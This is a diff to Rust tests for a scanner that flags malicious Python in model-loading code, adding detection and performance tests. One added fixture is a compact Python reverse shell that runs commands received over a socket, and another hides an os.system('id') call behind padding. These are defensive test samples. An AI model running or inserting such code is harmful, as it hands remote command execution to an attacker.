@@ -177,6 +177,8 @@ fn attacks_at_load_are_malicious() {
         assert_eq!(verdict, Malicious, "{source}: {rules:?}");
         assert!(rules.iter().any(|r| r == rule), "{source}: {rules:?}");
     }
+    let received = "import socket, os\ns = socket.create_connection(A)\nwhile 1:\n  os.popen(s.recv(99).decode())";
+    assert!(judged(received, Trust::Beside).1.iter().any(|r| r == "python-reverse-shell"));
     for source in [
         "def f(x):\n  return eval(x)",
         "import subprocess\ndef f(x):\n  subprocess.run(x)",
@@ -196,6 +198,7 @@ fn honest_model_code_is_clean() {
         "import requests\nfrom PIL import Image\ndef load(url):\n  return Image.open(requests.get(url, stream=True).raw)\n",
         "import subprocess\ndef load_audio(file):\n  cmd = ['ffmpeg', '-i', file]\n  return subprocess.run(cmd, capture_output=True).stdout\n",
         "import os\nTOKEN = os.environ.get('HF_TOKEN')\nos.environ['X'] = '1'\nos.makedirs('x', exist_ok=True)\n",
+        "import socket\ndef free_port():\n  with socket.socket() as s:\n    s.bind(('', 0))\n    return s.getsockname()[1]\n",
         "import importlib\ndef f(name):\n  return getattr(importlib.import_module(name), 'X')\n",
     ] {
         let (verdict, rules) = judged(source, Trust::Loaded);
@@ -223,6 +226,11 @@ fn time_and_memory_stay_linear() {
         "'\\".repeat(100_000),
         "if x:\n".repeat(100_000),
         "def f(a=(b:=c)):\n".repeat(30_000),
+        "class A: ".repeat(20_000) + &"a,f(),".repeat(50_000),
+        "if __name__ == '__main__': ".repeat(20_000) + &"f();".repeat(50_000),
+        format!("x = [{}]", "1,".repeat(800_000)),
+        "(x for x in ".repeat(50_000),
+        "a = (lambda x: ".repeat(50_000),
     ];
     let start = std::time::Instant::now();
     for source in &sources {
@@ -231,6 +239,18 @@ fn time_and_memory_stay_linear() {
         let taken = start.elapsed() - before;
         assert!(taken.as_secs() < 10, "{:?}… took {taken:?}", &source.chars().take(20).collect::<String>());
     }
+}
+
+#[test]
+fn spending_the_budget_hides_nothing() {
+    let burnt = format!("{}__import__('os').system('id')\n", "a = 'x' * 1000000\n".repeat(40));
+    let analysis = analyse(&burnt);
+    assert!(analysis.incomplete);
+    assert_eq!(analysis.dangers(Danger::RunsCommand).count(), 1);
+    let table = analyse(&format!("x = [{}]", "1,".repeat(800_000)));
+    assert!(!table.incomplete);
+    let stars = format!("{}from os import *\nsystem('id')\n", "from json import *\n".repeat(100));
+    assert_eq!(only(&stars).0, "os.system");
 }
 
 #[test]
